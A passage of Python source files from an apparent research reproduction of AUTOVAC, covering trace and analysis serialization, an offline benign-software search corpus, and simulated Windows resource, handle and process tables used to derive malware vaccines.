        TaintTag(event_id=d["event_id"], api=d["api"], klass=TaintClass(d["klass"]))
        for d in data
    )


def event_to_dict(event: ApiCallEvent) -> dict:
    return {
        "event_id": event.event_id,
        "seq": event.seq,
        "api": event.api,
        "caller_pc": event.caller_pc,
        "args": list(event.args),
        "callstack": list(event.callstack),
        "identifier": event.identifier,
        "identifier_taints": (
            [_tagset_to_list(t) for t in event.identifier_taints]
            if event.identifier_taints is not None
            else None
        ),
        "resource_type": event.resource_type.value if event.resource_type else None,
        "operation": event.operation.value if event.operation else None,
        "retval": event.retval,
        "success": event.success,
        "error": event.error,
        "mutated": event.mutated,
        "extra": {k: v for k, v in event.extra.items() if _jsonable(v)},
    }


def event_from_dict(data: dict) -> ApiCallEvent:
    return ApiCallEvent(
        event_id=data["event_id"],
        seq=data["seq"],
        api=data["api"],
        caller_pc=data["caller_pc"],
        args=tuple(data.get("args", ())),
        callstack=tuple(data.get("callstack", ())),
        identifier=data.get("identifier"),
        identifier_taints=(
            [_tagset_from_list(t) for t in data["identifier_taints"]]
            if data.get("identifier_taints") is not None
            else None
        ),
        resource_type=(
            ResourceType(data["resource_type"]) if data.get("resource_type") else None
        ),
        operation=Operation(data["operation"]) if data.get("operation") else None,
        retval=data.get("retval", 0),
        success=data.get("success", True),
        error=data.get("error", 0),
        mutated=data.get("mutated", False),
        extra=dict(data.get("extra", {})),
    )


def predicate_to_dict(pred: TaintedPredicateEvent) -> dict:
    return {
        "seq": pred.seq,
        "pc": pred.pc,
        "instr_text": pred.instr_text,
        "tags": _tagset_to_list(pred.tags),
        "lhs": pred.lhs,
        "rhs": pred.rhs,
    }


def predicate_from_dict(data: dict) -> TaintedPredicateEvent:
    return TaintedPredicateEvent(
        seq=data["seq"],
        pc=data["pc"],
        instr_text=data["instr_text"],
        tags=_tagset_from_list(data.get("tags", [])),
        lhs=data.get("lhs", 0),
        rhs=data.get("rhs", 0),
    )


def trace_to_dict(trace: Trace) -> dict:
    return {
        "format_version": FORMAT_VERSION,
        "program_name": trace.program_name,
        "exit_status": trace.exit_status,
        "exit_code": trace.exit_code,
        "steps": trace.steps,
        "api_calls": [event_to_dict(e) for e in trace.api_calls],
        "predicates": [predicate_to_dict(p) for p in trace.predicates],
    }


def trace_from_dict(data: dict) -> Trace:
    version = data.get("format_version")
    if version != FORMAT_VERSION:
        raise ValueError(f"unsupported trace format version {version!r}")
    trace = Trace(program_name=data.get("program_name", ""))
    trace.exit_status = data.get("exit_status", "unknown")
    trace.exit_code = data.get("exit_code")
    trace.steps = data.get("steps", 0)
    trace.api_calls = [event_from_dict(e) for e in data.get("api_calls", [])]
    trace.predicates = [predicate_from_dict(p) for p in data.get("predicates", [])]
    return trace


def trace_to_json(trace: Trace, indent: Optional[int] = None) -> str:
    return json.dumps(trace_to_dict(trace), indent=indent)


def trace_from_json(text: str) -> Trace:
    return trace_from_dict(json.loads(text))


def _jsonable(value) -> bool:
    return isinstance(value, (str, int, float, bool, type(None)))


# ---------------------------------------------------------------------------
# Analysis codec (SampleAnalysis and its payload)
#
# Core types are imported inside the functions: ``repro.core`` imports
# ``repro.tracing`` at module load, so top-level imports here would cycle.
# ---------------------------------------------------------------------------


def candidate_to_dict(candidate: "CandidateResource") -> dict:
    return {
        "resource_type": candidate.resource_type.value,
        "identifier": candidate.identifier,
        "operations": sorted(op.value for op in candidate.operations),
        "apis": sorted(candidate.apis),
        "event_ids": list(candidate.event_ids),
        "influences_control_flow": candidate.influences_control_flow,
        "had_failure": candidate.had_failure,
    }


def candidate_from_dict(data: dict) -> "CandidateResource":
    from ..core.candidate import CandidateResource

    return CandidateResource(
        resource_type=ResourceType(data["resource_type"]),
        identifier=data["identifier"],
        operations={Operation(op) for op in data.get("operations", [])},
        apis=set(data.get("apis", [])),
        event_ids=list(data.get("event_ids", [])),
        influences_control_flow=data.get("influences_control_flow", False),
        had_failure=data.get("had_failure", False),
    )


def report_to_dict(report: "CandidateReport") -> dict:
    """Phase-I report.  The live :class:`RunResult` (CPU + guest memory) is
    deliberately dropped — it is process-local working state."""
    return {
        "program_name": report.program_name,
        "trace": trace_to_dict(report.trace),
        "candidates": [candidate_to_dict(c) for c in report.candidates],
        "influential_occurrences": report.influential_occurrences,
        "total_occurrences": report.total_occurrences,
    }


def report_from_dict(data: dict) -> "CandidateReport":
    from ..core.candidate import CandidateReport

    return CandidateReport(
        program_name=data["program_name"],
        trace=trace_from_dict(data["trace"]),
        run=None,  # hermetic payload: live run state does not round-trip
        candidates=[candidate_from_dict(c) for c in data.get("candidates", [])],
        influential_occurrences=data.get("influential_occurrences", 0),
        total_occurrences=data.get("total_occurrences", 0),
    )


def decision_to_dict(decision: "ExclusivenessDecision") -> dict:
    return {
        "candidate": candidate_to_dict(decision.candidate),
        "exclusive": decision.exclusive,
        "reason": decision.reason,
        "hits": decision.hits,
    }


def decision_from_dict(data: dict) -> "ExclusivenessDecision":
    from ..core.exclusiveness import ExclusivenessDecision

    return ExclusivenessDecision(
        candidate=candidate_from_dict(data["candidate"]),
        exclusive=data["exclusive"],
        reason=data.get("reason", ""),
        hits=data.get("hits", 0),
    )


def impact_to_dict(outcome: "ImpactOutcome") -> dict:
    """Alignment and the mutated run are dropped (live VM state); the
    classification they produced is what the pipeline consumes downstream."""
    return {
        "candidate": candidate_to_dict(outcome.candidate),
        "mechanism": outcome.mechanism.value,
        "immunization": outcome.immunization.value,
        "effects": sorted(e.value for e in outcome.effects),
        "mutation_hits": outcome.mutation_hits,
    }


def impact_from_dict(data: dict) -> "ImpactOutcome":
    from ..core.impact import ImpactOutcome
    from ..core.vaccine import Immunization, Mechanism

    return ImpactOutcome(
        candidate=candidate_from_dict(data["candidate"]),
        mechanism=Mechanism(data["mechanism"]),
        immunization=Immunization(data["immunization"]),
        effects={Immunization(e) for e in data.get("effects", [])},
        mutation_hits=data.get("mutation_hits", 0),
    )


def determinism_to_dict(result: "DeterminismResult") -> dict:
    """The raw :class:`BackwardResult` is dropped; the extracted slice (the
    deployable artifact) survives via its own codec."""
    return {
        "kind": result.kind.value,
        "pattern": result.pattern,
        "slice": result.slice.to_dict() if result.slice else None,
        "notes": result.notes,
    }


def determinism_from_dict(data: dict) -> "DeterminismResult":
    from ..core.determinism import DeterminismResult
    from ..core.vaccine import IdentifierKind
    from ..taint.slicing import VaccineSlice

    return DeterminismResult(
        kind=IdentifierKind(data["kind"]),
        pattern=data.get("pattern"),
        slice=VaccineSlice.from_dict(data["slice"]) if data.get("slice") else None,
        notes=data.get("notes", ""),
    )


def clinic_to_dict(report: "ClinicReport") -> dict:
    return {
        "programs_tested": report.programs_tested,
        "incidents": [
            {
                "program": inc.program,
                "api": inc.api,
                "identifier": inc.identifier,
                "detail": inc.detail,
                "implicated": [v.to_dict() for v in inc.implicated],
            }
            for inc in report.incidents
        ],
        "passed": [v.to_dict() for v in report.passed],
        "rejected": [v.to_dict() for v in report.rejected],
    }


def clinic_from_dict(data: dict) -> "ClinicReport":
    from ..core.clinic import ClinicIncident, ClinicReport
    from ..core.vaccine import Vaccine

    return ClinicReport(
        programs_tested=data.get("programs_tested", 0),
        incidents=[
            ClinicIncident(
                program=inc["program"],
                api=inc["api"],
                identifier=inc.get("identifier"),
                detail=inc.get("detail", ""),
                implicated=[Vaccine.from_dict(v) for v in inc.get("implicated", [])],
            )
            for inc in data.get("incidents", [])
        ],
        passed=[Vaccine.from_dict(v) for v in data.get("passed", [])],
        rejected=[Vaccine.from_dict(v) for v in data.get("rejected", [])],
    )


def analysis_to_dict(analysis: "SampleAnalysis") -> dict:
    """Encode a full per-sample analysis as a JSON-safe (and pickle-cheap)
    dict.  The decoded twin carries a summary :class:`Program` stub (name +
    metadata, no instructions) — enough for every population-level helper."""
    return {
        "format_version": ANALYSIS_FORMAT_VERSION,
        "program": {
            "name": analysis.program.name,
            "metadata": {
                k: v for k, v in analysis.program.metadata.items() if _jsonable(v)
            },
        },
        "phase1": report_to_dict(analysis.phase1) if analysis.phase1 else None,
        "exclusiveness": [decision_to_dict(d) for d in analysis.exclusiveness],
        "impacts": [impact_to_dict(o) for o in analysis.impacts],
        "determinism": {
            key: determinism_to_dict(det) for key, det in analysis.determinism.items()
        },
        "vaccines": [v.to_dict() for v in analysis.vaccines],
        "clinic": clinic_to_dict(analysis.clinic) if analysis.clinic else None,
        "policy": analysis.policy.to_dict() if analysis.policy is not None else None,
        "filtered_reason": analysis.filtered_reason,
        "span": analysis.span.to_dict() if analysis.span is not None else None,
        "journal": analysis.journal.to_dict() if analysis.journal is not None else None,
        "profile": analysis.profile,
    }


def analysis_from_dict(data: dict) -> "SampleAnalysis":
    from ..core.pipeline import SampleAnalysis
    from ..core.policy import TemporalApiPolicy
    from ..core.vaccine import Vaccine
    from ..vm.program import Program

    version = data.get("format_version")
    if version not in SUPPORTED_ANALYSIS_VERSIONS:
        raise ValueError(f"unsupported analysis format version {version!r}")
    program = data.get("program", {})
    span = data.get("span")
    journal = data.get("journal")
    policy = data.get("policy")
    return SampleAnalysis(
        program=Program(
            name=program.get("name", ""),
            instructions=[],
            labels={},
            metadata=dict(program.get("metadata", {})),
        ),
        phase1=report_from_dict(data["phase1"]) if data.get("phase1") else None,
        exclusiveness=[decision_from_dict(d) for d in data.get("exclusiveness", [])],
        impacts=[impact_from_dict(o) for o in data.get("impacts", [])],
        determinism={
            key: determinism_from_dict(det)
            for key, det in data.get("determinism", {}).items()
        },
        vaccines=[Vaccine.from_dict(v) for v in data.get("vaccines", [])],
        clinic=clinic_from_dict(data["clinic"]) if data.get("clinic") else None,
        policy=TemporalApiPolicy.from_dict(policy) if policy is not None else None,
        filtered_reason=data.get("filtered_reason"),
        span=Span.from_dict(span) if span is not None else None,
        journal=Journal.from_dict(journal) if journal is not None else None,
        profile=data.get("profile"),
    )


def analysis_to_json(analysis: "SampleAnalysis", indent: Optional[int] = None) -> str:
    return json.dumps(analysis_to_dict(analysis), indent=indent)


def analysis_from_json(text: str) -> "SampleAnalysis":
    return analysis_from_dict(json.loads(text))


def failure_to_entry(failure: "SampleFailure") -> dict:
    """Encode a quarantined sample as a *negative* cache entry — stored at
    the same content-addressed key its healthy analysis would use, so a
    restarted survey reports the failure instead of re-crashing on the
    sample.  Versioned like the analysis payload: a codec bump (which also
    changes every cache key) orphans stale negatives along with stale
    analyses."""
    return {
        "negative": True,
        "format_version": ANALYSIS_FORMAT_VERSION,
        "failure": failure.to_dict(),
    }


def failure_from_entry(data: dict) -> Optional["SampleFailure"]:
    """Decode a negative cache entry; ``None`` when ``data`` is not one."""
    if not (isinstance(data, dict) and data.get("negative")):
        return None
    from ..core.pipeline import SampleFailure

    return SampleFailure.from_dict(data.get("failure", {}))
