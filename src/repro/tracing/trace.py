"""Execution trace container."""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional

from ..winenv.objects import Operation, ResourceType
from .events import ApiCallEvent, InstructionRecord, TaintedPredicateEvent


@dataclass
class Trace:
    """Everything recorded during one guest run.

    The natural run (Phase I) and each mutated run (Phase II) produce one
    ``Trace``; differential analysis aligns their ``api_calls`` lists and
    determinism analysis walks ``instructions`` backward.
    """

    program_name: str = ""
    api_calls: List[ApiCallEvent] = field(default_factory=list)
    predicates: List[TaintedPredicateEvent] = field(default_factory=list)
    instructions: List[InstructionRecord] = field(default_factory=list)
    exit_status: str = "running"
    exit_code: Optional[int] = None
    steps: int = 0
    _event_ids: "itertools.count[int]" = field(default_factory=lambda: itertools.count(1))

    def next_event_id(self) -> int:
        return next(self._event_ids)

    # -- queries -----------------------------------------------------------

    def resource_events(self) -> List[ApiCallEvent]:
        return [e for e in self.api_calls if e.is_resource_access]

    def events_for_api(self, api: str) -> List[ApiCallEvent]:
        return [e for e in self.api_calls if e.api == api]

    def event_by_id(self, event_id: int) -> Optional[ApiCallEvent]:
        for event in self.api_calls:
            if event.event_id == event_id:
                return event
        return None

    def api_names(self) -> List[str]:
        return [e.api for e in self.api_calls]

    def called_any(self, names: Iterable[str]) -> bool:
        wanted = {n.lower() for n in names}
        return any(e.api.lower() in wanted for e in self.api_calls)

    def count_by_resource_operation(self) -> Dict[ResourceType, Dict[Operation, int]]:
        """Tally resource accesses for Figure-3-style statistics."""
        out: Dict[ResourceType, Dict[Operation, int]] = {}
        for event in self.resource_events():
            per_op = out.setdefault(event.resource_type, {})
            per_op[event.operation] = per_op.get(event.operation, 0) + 1
        return out

    def identifier_events(self) -> List[ApiCallEvent]:
        return [e for e in self.api_calls if e.identifier]

    @property
    def terminated(self) -> bool:
        return self.exit_status == "terminated"

    def summary(self) -> str:
        return (
            f"<Trace {self.program_name}: {len(self.api_calls)} api calls, "
            f"{len(self.predicates)} tainted predicates, {self.steps} steps, "
            f"exit={self.exit_status}>"
        )
