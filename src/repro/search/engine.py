"""Offline search engine for exclusiveness analysis.

Mirrors the paper's use of the Google query API: ``query(identifier)``
returns hits from an indexed document corpus; hit context lets the caller
infer whether the identifier is associated with benign software.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Tuple

from .corpus_data import BENIGN_DOCUMENTS, build_token_index


@dataclass(frozen=True)
class SearchHit:
    doc_id: int
    title: str
    snippet: str


class SearchEngine:
    """Substring/token search over an offline document corpus."""

    def __init__(self, documents: Optional[List[Tuple[str, str]]] = None) -> None:
        self.documents = list(BENIGN_DOCUMENTS if documents is None else documents)
        self._index = build_token_index(self.documents)
        self.query_count = 0

    def add_document(self, title: str, body: str) -> None:
        self.documents.append((title, body))
        self._index = build_token_index(self.documents)

    def query(self, text: str, max_hits: int = 10) -> List[SearchHit]:
        """Search for an identifier; exact token match or substring match.

        Very short or generic fragments (< 4 chars) are ignored to avoid
        meaningless hits, mirroring sanity filtering of real search queries.
        """
        self.query_count += 1
        needle = text.strip().lower()
        if len(needle) < 4:
            return []
        hits: List[SearchHit] = []
        seen = set()
        for doc_id in self._index.get(needle, []):
            if doc_id not in seen:
                seen.add(doc_id)
                hits.append(self._hit(doc_id, needle))
        if not hits:
            for doc_id, (title, body) in enumerate(self.documents):
                if needle in f"{title} {body}".lower() and doc_id not in seen:
                    seen.add(doc_id)
                    hits.append(self._hit(doc_id, needle))
        return hits[:max_hits]

    def _hit(self, doc_id: int, needle: str) -> SearchHit:
        title, body = self.documents[doc_id]
        lowered = body.lower()
        pos = lowered.find(needle)
        if pos < 0:
            snippet = body[:80]
        else:
            start = max(0, pos - 30)
            snippet = body[start:pos + len(needle) + 30]
        return SearchHit(doc_id=doc_id, title=title, snippet=snippet)
