"""Offline web-corpus: documents describing benign software resources.

Stands in for the Google queries of the paper's exclusiveness analysis
(§IV-A, following the "Googling the Internet" endpoint-profiling approach):
a resource identifier that appears in these documents is associated with
benign software and must not become a vaccine.
"""

from __future__ import annotations

from typing import Dict, List, Tuple

#: (title, body) documents; bodies mention benign resource identifiers.
BENIGN_DOCUMENTS: List[Tuple[str, str]] = [
    (
        "Windows theming internals",
        "uxtheme.dll provides visual styles; applications load uxtheme.dll "
        "and msstyles resources at startup.",
    ),
    (
        "Microsoft C runtime redistributable",
        "msvcrt.dll and mscrt.dll ship with the platform SDK; installers "
        "copy msvcrt.dll into c:\\windows\\system32.",
    ),
    (
        "Winsock programming guide",
        "ws2_32.dll exports socket, connect, send and recv for TCP clients.",
    ),
    (
        "Shell extension development",
        "shell32.dll and explorer.exe host shell namespace extensions; "
        "register your COM class under hklm\\software\\classes.",
    ),
    (
        "Service host configuration",
        "svchost.exe groups services configured under "
        "hklm\\system\\currentcontrolset\\services; eventlog and dhcp run "
        "inside shared hosts.",
    ),
    (
        "Startup programs and the Run key",
        "Programs add values under "
        "hklm\\software\\microsoft\\windows\\currentversion\\run to start at "
        "logon; cleanup utilities enumerate the run key.",
    ),
    (
        "Office quickstart tray",
        "The office quickstart applet registers the OfficeTrayWnd window "
        "class and a single instance mutex named OfficeQuickstartMutex.",
    ),
    (
        "Browser single-instance locking",
        "The browser creates the mutex BrowserSingletonMtx and the window "
        "class BrowserMainWnd so a second launch focuses the first.",
    ),
    (
        "Antivirus update scheduler",
        "The updater service avupdate.exe stores state in "
        "c:\\windows\\system32\\avstate.dat and resolves "
        "update.example-av.com.",
    ),
    (
        "Instant messenger protocol notes",
        "messenger.exe keeps logs in c:\\windows\\temp\\imlog.txt and "
        "registers the IMMainWindow class.",
    ),
    (
        "Media player codecs",
        "mediaplay.exe loads codec.dll and registers mplayer_lock mutex "
        "while playing.",
    ),
    (
        "System file checker reference",
        "winlogon.exe verifies userinit.exe and explorer.exe signatures at "
        "boot; system.ini is parsed for legacy boot options.",
    ),
]


def build_token_index(documents: List[Tuple[str, str]]) -> Dict[str, List[int]]:
    """Lower-cased token -> document ids (tokens split on whitespace)."""
    index: Dict[str, List[int]] = {}
    for doc_id, (title, body) in enumerate(documents):
        for token in f"{title} {body}".lower().split():
            token = token.strip(".,;()\"'")
            if token:
                index.setdefault(token, []).append(doc_id)
    return index
