"""Offline search-engine substrate for exclusiveness analysis."""

from .corpus_data import BENIGN_DOCUMENTS, build_token_index
from .engine import SearchEngine, SearchHit

__all__ = ["BENIGN_DOCUMENTS", "SearchEngine", "SearchHit", "build_token_index"]
