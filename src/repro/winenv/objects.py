"""Base classes for named system resources and the handle table.

Everything AUTOVAC observes — files, registry keys, mutexes, processes,
services, GUI windows, libraries — is a *named resource* that guest programs
reach through handles returned by the API layer.  The paper's vaccine
identifier is exactly ``(resource type, identifier)``, so the base class keeps
both.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Callable, Dict, Iterator, Optional, Tuple

from .acl import Acl, open_acl


class ResourceType(enum.Enum):
    """The seven resource categories the paper's evaluation covers (§VI-B)."""

    FILE = "file"
    REGISTRY = "registry"
    MUTEX = "mutex"
    PROCESS = "process"
    SERVICE = "service"
    WINDOW = "window"
    LIBRARY = "library"
    NETWORK = "network"  # propagation substrate only; never a vaccine itself


class Operation(enum.Enum):
    """Resource operations tallied by Phase I (Figure 3 axes)."""

    CREATE = "create"
    READ = "read"          # read/open in the paper's figure
    WRITE = "write"
    DELETE = "delete"
    EXECUTE = "execute"
    CHECK = "check"        # existence check (paper Table III symbol E)


@dataclass
class Resource:
    """A named system resource with an ACL.

    ``identifier`` is the canonical name used for vaccine extraction
    (lower-cased path for files/registry, verbatim name for mutexes etc.).
    """

    name: str
    rtype: ResourceType
    acl: Acl = field(default_factory=open_acl)
    created_by: Optional[int] = None   # pid of the creating process, if any

    @property
    def identifier(self) -> str:
        return self.name

    def __str__(self) -> str:  # pragma: no cover - debugging aid
        return f"<{self.rtype.value}:{self.name}>"


class HandleKind(enum.Enum):
    """What a guest handle refers to."""

    FILE = "file"
    REGISTRY = "registry"
    MUTEX = "mutex"
    PROCESS = "process"
    THREAD = "thread"
    SERVICE = "service"
    SCMANAGER = "scmanager"
    WINDOW = "window"
    LIBRARY = "library"
    SOCKET = "socket"
    INTERNET = "internet"


@dataclass
class Handle:
    """A per-process handle entry mapping a small integer to a resource."""

    value: int
    kind: HandleKind
    resource: Optional[Resource]
    #: Position of the read cursor for file-like handles.
    cursor: int = 0
    #: Extra per-handle state (e.g. registry enum index, socket peer).
    state: Dict[str, object] = field(default_factory=dict)


class HandleTable:
    """Per-process handle table.

    Handle values start at a distinctive base so they never collide with the
    boolean/NULL encodings APIs use for failure (0/1/0xFFFFFFFF).
    """

    _BASE = 0x100

    def __init__(self) -> None:
        # Plain int, not itertools.count: snapshot/restore must read and
        # re-seed the counter position (closed handles still consumed values).
        self._next = self._BASE
        self._table: Dict[int, Handle] = {}

    def allocate(self, kind: HandleKind, resource: Optional[Resource]) -> Handle:
        handle = Handle(value=self._next, kind=kind, resource=resource)
        self._next += 4
        self._table[handle.value] = handle
        return handle

    def get(self, value: int) -> Optional[Handle]:
        return self._table.get(value)

    def close(self, value: int) -> bool:
        return self._table.pop(value, None) is not None

    def __iter__(self) -> Iterator[Handle]:
        return iter(self._table.values())

    def __len__(self) -> int:
        return len(self._table)

    # -- structured snapshot/restore --------------------------------------

    def snapshot_state(self, rid_of: Callable[[Resource], int]) -> Tuple:
        """Plain-data image of the table: counter position plus one spec per
        handle.  Resources are referenced by the id-map rid ``rid_of``
        assigns, so handles sharing a resource object keep that identity
        across restores."""
        rows = []
        for h in self._table.values():
            attrs = dict(vars(h))
            attrs["resource"] = None  # resolved by rid on restore
            attrs["state"] = _freeze_state(h.state)
            rows.append(
                (None if h.resource is None else rid_of(h.resource), attrs)
            )
        return (self._next, tuple(rows))

    @classmethod
    def restore_state(
        cls, state: Tuple, resolve: Callable[[int], Resource]
    ) -> "HandleTable":
        next_value, rows = state
        table = cls.__new__(cls)
        table._next = next_value
        table._table = entries = {}
        new = Handle.__new__
        for rid, attrs in rows:
            # Image rebuild — restores run once per candidate × mechanism,
            # and the dataclass __init__ only re-copies the captured image.
            h = new(Handle)
            d = dict(attrs)
            state_rows = attrs["state"]
            d["state"] = _thaw_state(state_rows) if state_rows else {}
            if rid is not None:
                d["resource"] = resolve(rid)
            h.__dict__ = d
            entries[attrs["value"]] = h
        return table


def _freeze_state(state: Dict[str, object]) -> Tuple:
    """Immutable image of a handle's ``state`` dict.  Mutable values (the
    enum-API pid snapshot list) are copied so later guest activity cannot
    reach back into a captured snapshot."""
    return tuple(
        (key, ("list", tuple(value)) if isinstance(value, list) else ("val", value))
        for key, value in state.items()
    )


def _thaw_state(rows: Tuple) -> Dict[str, object]:
    return {
        key: list(payload) if tag == "list" else payload
        for key, (tag, payload) in rows
    }
