"""Base classes for named system resources and the handle table.

Everything AUTOVAC observes — files, registry keys, mutexes, processes,
services, GUI windows, libraries — is a *named resource* that guest programs
reach through handles returned by the API layer.  The paper's vaccine
identifier is exactly ``(resource type, identifier)``, so the base class keeps
both.
"""

from __future__ import annotations

import enum
import itertools
from dataclasses import dataclass, field
from typing import Dict, Iterator, Optional

from .acl import Acl, open_acl


class ResourceType(enum.Enum):
    """The seven resource categories the paper's evaluation covers (§VI-B)."""

    FILE = "file"
    REGISTRY = "registry"
    MUTEX = "mutex"
    PROCESS = "process"
    SERVICE = "service"
    WINDOW = "window"
    LIBRARY = "library"
    NETWORK = "network"  # propagation substrate only; never a vaccine itself


class Operation(enum.Enum):
    """Resource operations tallied by Phase I (Figure 3 axes)."""

    CREATE = "create"
    READ = "read"          # read/open in the paper's figure
    WRITE = "write"
    DELETE = "delete"
    EXECUTE = "execute"
    CHECK = "check"        # existence check (paper Table III symbol E)


@dataclass
class Resource:
    """A named system resource with an ACL.

    ``identifier`` is the canonical name used for vaccine extraction
    (lower-cased path for files/registry, verbatim name for mutexes etc.).
    """

    name: str
    rtype: ResourceType
    acl: Acl = field(default_factory=open_acl)
    created_by: Optional[int] = None   # pid of the creating process, if any

    @property
    def identifier(self) -> str:
        return self.name

    def __str__(self) -> str:  # pragma: no cover - debugging aid
        return f"<{self.rtype.value}:{self.name}>"


class HandleKind(enum.Enum):
    """What a guest handle refers to."""

    FILE = "file"
    REGISTRY = "registry"
    MUTEX = "mutex"
    PROCESS = "process"
    THREAD = "thread"
    SERVICE = "service"
    SCMANAGER = "scmanager"
    WINDOW = "window"
    LIBRARY = "library"
    SOCKET = "socket"
    INTERNET = "internet"


@dataclass
class Handle:
    """A per-process handle entry mapping a small integer to a resource."""

    value: int
    kind: HandleKind
    resource: Optional[Resource]
    #: Position of the read cursor for file-like handles.
    cursor: int = 0
    #: Extra per-handle state (e.g. registry enum index, socket peer).
    state: Dict[str, object] = field(default_factory=dict)


class HandleTable:
    """Per-process handle table.

    Handle values start at a distinctive base so they never collide with the
    boolean/NULL encodings APIs use for failure (0/1/0xFFFFFFFF).
    """

    _BASE = 0x100

    def __init__(self) -> None:
        self._next = itertools.count(self._BASE, 4)
        self._table: Dict[int, Handle] = {}

    def allocate(self, kind: HandleKind, resource: Optional[Resource]) -> Handle:
        handle = Handle(value=next(self._next), kind=kind, resource=resource)
        self._table[handle.value] = handle
        return handle

    def get(self, value: int) -> Optional[Handle]:
        return self._table.get(value)

    def close(self, value: int) -> bool:
        return self._table.pop(value, None) is not None

    def __iter__(self) -> Iterator[Handle]:
        return iter(self._table.values())

    def __len__(self) -> int:
        return len(self._table)
