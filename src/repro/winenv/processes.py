"""Process table for the simulated environment.

Processes matter to AUTOVAC in two ways: they are resources malware enumerates
and injects into (Type-IV partial immunization targets ``explorer.exe`` /
``svchost.exe``), and every guest program executes *as* a process carrying its
integrity level, ``GetLastError`` slot and handle table.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, Iterator, List, Optional, Tuple

from .acl import Acl, IntegrityLevel, open_acl
from .errors import ResourceFault, Win32Error
from .objects import HandleTable, Resource, ResourceType

#: Benign processes present on a standard machine (injection targets).
#: explorer.exe and svchost.exe run in the user session (medium integrity,
#: the usual injection targets); the rest are SYSTEM.
STANDARD_PROCESSES = (
    "explorer.exe",
    "svchost.exe",
    "winlogon.exe",
    "services.exe",
    "lsass.exe",
)
_SESSION_PROCESSES = frozenset({"explorer.exe", "svchost.exe"})


@dataclass
class RemoteWrite:
    """Record of a cross-process memory write (process-injection evidence)."""

    writer_pid: int
    size: int


@dataclass
class Process(Resource):
    """A running process; guest programs execute inside one of these."""

    pid: int = 0
    image_path: str = ""
    integrity: IntegrityLevel = IntegrityLevel.MEDIUM
    last_error: int = 0
    alive: bool = True
    exit_code: Optional[int] = None
    handles: HandleTable = field(default_factory=HandleTable)
    remote_writes: List[RemoteWrite] = field(default_factory=list)
    remote_threads: List[int] = field(default_factory=list)  # creator pids
    parent_pid: Optional[int] = None

    def __init__(
        self,
        pid: int,
        name: str,
        image_path: str = "",
        integrity: IntegrityLevel = IntegrityLevel.MEDIUM,
        acl: Optional[Acl] = None,
        parent_pid: Optional[int] = None,
    ) -> None:
        super().__init__(name=name.lower(), rtype=ResourceType.PROCESS, acl=acl or open_acl())
        self.pid = pid
        self.image_path = image_path or name.lower()
        self.integrity = integrity
        self.last_error = 0
        self.alive = True
        self.exit_code = None
        self.handles = HandleTable()
        self.remote_writes = []
        self.remote_threads = []
        self.parent_pid = parent_pid

    def terminate(self, exit_code: int = 0) -> None:
        self.alive = False
        self.exit_code = exit_code

    @property
    def was_injected(self) -> bool:
        return bool(self.remote_writes or self.remote_threads)


class ProcessTable:
    """Environment-global process table, pre-seeded with standard processes."""

    def __init__(self) -> None:
        # Plain int, not itertools.count: snapshot/restore re-seeds the
        # counter position so resumed runs hand out the same pids a full
        # rerun would (terminated processes still consumed pids).
        self._next_pid = 1000
        self._procs: Dict[int, Process] = {}
        for name in STANDARD_PROCESSES:
            level = (
                IntegrityLevel.MEDIUM if name in _SESSION_PROCESSES else IntegrityLevel.SYSTEM
            )
            self.spawn(name, integrity=level)

    def spawn(
        self,
        name: str,
        image_path: str = "",
        integrity: IntegrityLevel = IntegrityLevel.MEDIUM,
        parent_pid: Optional[int] = None,
    ) -> Process:
        pid = self._next_pid
        self._next_pid += 4
        proc = Process(pid, name, image_path=image_path, integrity=integrity, parent_pid=parent_pid)
        self._procs[pid] = proc
        return proc

    def get(self, pid: int) -> Optional[Process]:
        return self._procs.get(pid)

    def find_by_name(self, name: str) -> Optional[Process]:
        wanted = name.lower()
        for proc in self._procs.values():
            if proc.name == wanted and proc.alive:
                return proc
        return None

    def open(self, pid: int) -> Process:
        proc = self._procs.get(pid)
        if proc is None or not proc.alive:
            raise ResourceFault(Win32Error.INVALID_PARAMETER, f"pid {pid}")
        return proc

    def alive_processes(self) -> List[Process]:
        return [p for p in self._procs.values() if p.alive]

    def __iter__(self) -> Iterator[Process]:
        return iter(self._procs.values())

    def __len__(self) -> int:
        return len(self._procs)

    def clone(self) -> "ProcessTable":
        other = ProcessTable.__new__(ProcessTable)
        other._next_pid = 5000
        other._procs = {}
        for pid, proc in self._procs.items():
            copy = Process(
                pid,
                proc.name,
                image_path=proc.image_path,
                integrity=proc.integrity,
                acl=proc.acl,
                parent_pid=proc.parent_pid,
            )
            copy.alive = proc.alive
            copy.exit_code = proc.exit_code
            other._procs[pid] = copy
        return other

    # -- structured snapshot/restore --------------------------------------

    def snapshot_state(self, rid_of: Callable[[Resource], int]) -> Tuple:
        """Plain-data image of every process *including* its handle table,
        last-error slot and injection evidence — everything ``clone()``
        deliberately drops because it rebuilds from scratch.  ``RemoteWrite``
        records are append-only, so the rows share them by reference."""
        rows = []
        for pid, proc in self._procs.items():
            attrs = dict(vars(proc))
            attrs["handles"] = None  # restored separately (two-pass)
            attrs["remote_writes"] = tuple(proc.remote_writes)
            attrs["remote_threads"] = tuple(proc.remote_threads)
            rows.append(
                (rid_of(proc), pid, attrs, proc.handles.snapshot_state(rid_of))
            )
        return (self._next_pid, tuple(rows))

    @classmethod
    def restore_state(
        cls, state: Tuple, register: Callable[[int, Resource], None]
    ) -> "Tuple[ProcessTable, list]":
        """Rebuild the table and register each process under its rid.

        Handle tables are *not* filled here: a PROCESS handle may reference
        another process (or an orphaned resource not yet rebuilt), so the
        caller runs :meth:`HandleTable.restore_state` on the returned
        ``(process, handle_state)`` pairs once every rid resolves.
        """
        next_pid, rows = state
        table = cls.__new__(cls)
        table._next_pid = next_pid
        table._procs = {}
        pending = []
        new = Process.__new__
        for rid, pid, attrs, handle_state in rows:
            # Image rebuild (see FileSystem.restore_state).  ``handles``
            # stays None (from the captured image) until the caller runs the
            # second pass over ``pending`` — every process gets its real
            # table there (see the docstring above).
            proc = new(Process)
            d = dict(attrs)
            d["remote_writes"] = list(attrs["remote_writes"])
            d["remote_threads"] = list(attrs["remote_threads"])
            proc.__dict__ = d
            table._procs[pid] = proc
            register(rid, proc)
            pending.append((proc, handle_state))
        return table, pending
