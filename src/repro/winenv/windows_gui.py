"""GUI window namespace (class name / window title registry).

Adware-style samples check ``FindWindow`` for their own window class before
